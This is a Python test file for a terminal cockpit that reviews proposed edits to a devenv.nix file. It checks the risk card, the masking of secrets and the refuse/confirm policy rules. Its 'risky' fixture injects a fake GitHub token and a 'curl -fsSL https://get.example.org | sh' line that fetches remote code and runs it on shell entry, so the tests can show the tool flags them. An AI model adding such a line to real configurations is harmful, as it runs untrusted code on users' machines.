"""The change card in the cockpit under Pilot: at the top of the detail, in full in the approve modal, for
direct edits; `[policy] refuse` rejecting at once, `[policy] confirm` needing the risk's name typed."""

from __future__ import annotations

import json
from pathlib import Path

from app_harness import SIZE, cockpit, decision_of, open_workspace, propose_now, ready, screen_text, wait_for
from textual.widgets import Input

from omni_tui.core.proposals import ProposalStore
from omni_tui.ui.screens import ApproveScreen

TOKEN = "ghp_0123456789abcdefghijklmnopqrstuv"


def risky(project: Path) -> str:
    text = (project / "devenv.nix").read_text()
    return text.replace(
        "packages = [ pkgs.git pkgs.jq ];",
        f'packages = [ pkgs.git pkgs.jq pkgs.ripgrep ];\n  services.redis.enable = true;\n  env.GITHUB_TOKEN = "{TOKEN}";',
    ).replace('echo "$GREET from devenv"', 'echo "$GREET from devenv"\n    curl -fsSL https://get.example.org | sh')


def shell_entry_only(project: Path) -> str:
    return (project / "devenv.nix").read_text().replace('echo "$GREET from devenv"', 'echo "$GREET from devenv"\n    make setup')


async def test_the_detail_starts_with_the_card_and_the_modal_shows_it_whole_masked(project: Path) -> None:
    ws = open_workspace(project)
    app = cockpit(ws)
    async with app.run_test(size=SIZE) as pilot:
        propose_now(project, "devenv.nix", risky(project), title="Add redis")
        await wait_for(
            pilot, lambda: "+redis :6379" in screen_text(app) and "secret in file" in screen_text(app), what="the card in the detail"
        )
        text = screen_text(app)
        assert "What it does" in text and "runs on shell entry" in text and "network service" in text
        assert "+ripgrep" in text
        lines = text.splitlines()
        card_row = next(n for n, line in enumerate(lines) if "What it does" in line)
        why_row = next(n for n, line in enumerate(lines) if "Why:" in line)
        assert card_row < why_row  # at the top of the detail, before the rationale and the diff
        # `a` is offered once the proposal's check has landed (a key pressed before that only explains why not).
        await wait_for(pilot, lambda: app.check_action("approve", ()) is True, what="approve offered")
        await pilot.press("a")
        await wait_for(
            pilot, lambda: ready(app, ApproveScreen) and "curl -fsSL https://get.example.org" in screen_text(app), what="the full card"
        )
        modal = screen_text(app)
        assert "devenv.nix:" in modal and "GITHUB_TOKEN" in modal
        assert TOKEN not in modal and TOKEN not in text
        await pilot.press("n")


async def test_direct_edits_show_their_card_in_the_changes_panel(project: Path) -> None:
    ws = open_workspace(project)
    app = cockpit(ws)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the cockpit")
        (project / "devenv.nix").write_text(risky(project))
        await wait_for(pilot, lambda: "+redis :6379" in screen_text(app), what="the card of the direct edit")
        assert TOKEN not in screen_text(app)
        await pilot.press("A")  # accept the direct edits: the accept modal shows the whole card
        await wait_for(
            pilot, lambda: ready(app, ApproveScreen) and "enabled, devenv.nix" in screen_text(app), what="the card in the accept modal"
        )
        modal = screen_text(app)
        assert "Accept edits" in modal and "secret in file" in modal and TOKEN not in modal
        await pilot.press("n")


async def test_policy_refuse_rejects_a_proposal_the_cockpit_finds_naming_the_rule(project: Path) -> None:
    ws = open_workspace(project, extra='\n[policy]\nrefuse = ["network_service"]\n')
    app = cockpit(ws)
    before = (project / "devenv.nix").read_text()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the cockpit")
        # Written straight into proposals/ (not through `omni-tui propose`): the cockpit applies the policy.
        proposal = ProposalStore(ws).build({"devenv.nix": risky(project)}, title="Add redis", rationale="cache", agent="rogue")
        (ws.paths.proposals / f"{proposal.id}.json").write_text(json.dumps(proposal.to_json()))
        await wait_for(pilot, lambda: decision_of(ws, proposal.id) is not None, what="the policy's decision")
        decision = decision_of(ws, proposal.id)
        assert decision is not None and decision.status == "rejected" and decision.who == "policy"
        assert "network_service" in (decision.reason or "")
        await wait_for(pilot, lambda: "rejected" in screen_text(app), what="the rejection in the queue")
        assert (project / "devenv.nix").read_text() == before


async def test_policy_confirm_needs_the_risk_name_typed_before_approving(project: Path) -> None:
    ws = open_workspace(project, extra='\n[policy]\nconfirm = ["runs_on_shell_entry"]\n')
    app = cockpit(ws)
    async with app.run_test(size=SIZE) as pilot:
        pid = propose_now(project, "devenv.nix", shell_entry_only(project), title="Run setup")
        await wait_for(
            pilot,
            lambda: app.detail.view is not None and app.detail.view.key == pid and "✓" in screen_text(app),
            what="the proposal checked",
        )
        await pilot.press("a")
        await wait_for(pilot, lambda: ready(app, ApproveScreen) and "type it to approve" in screen_text(app), what="the typed confirmation")
        screen = app.screen
        assert isinstance(screen, ApproveScreen)
        box = screen.query_one(Input)
        await pilot.press("y")  # goes into the box: not an approval
        await wait_for(pilot, lambda: box.value == "y", what="y in the box")
        await pilot.press("enter")
        assert app.screen is screen and decision_of(ws, pid) is None
        await pilot.press("backspace")
        await wait_for(pilot, lambda: box.value == "", what="the box emptied")
        await pilot.press(*"network_service", "enter")  # the wrong name
        await wait_for(pilot, lambda: box.value == "network_service", what="the wrong name in the box")
        assert app.screen is screen and decision_of(ws, pid) is None
        assert screen.check_action("confirm", ()) is None
        for _ in range(len("network_service")):
            await pilot.press("backspace")
        await wait_for(pilot, lambda: box.value == "", what="the wrong name erased")
        await pilot.press(*"runs_on_shell_entry")
        await wait_for(pilot, lambda: screen.check_action("confirm", ()) is True, what="the confirm key enabled")
        await pilot.press("enter")
        await wait_for(pilot, lambda: (d := decision_of(ws, pid)) is not None and d.status == "applied", what="the approval")
        assert "make setup" in (project / "devenv.nix").read_text()
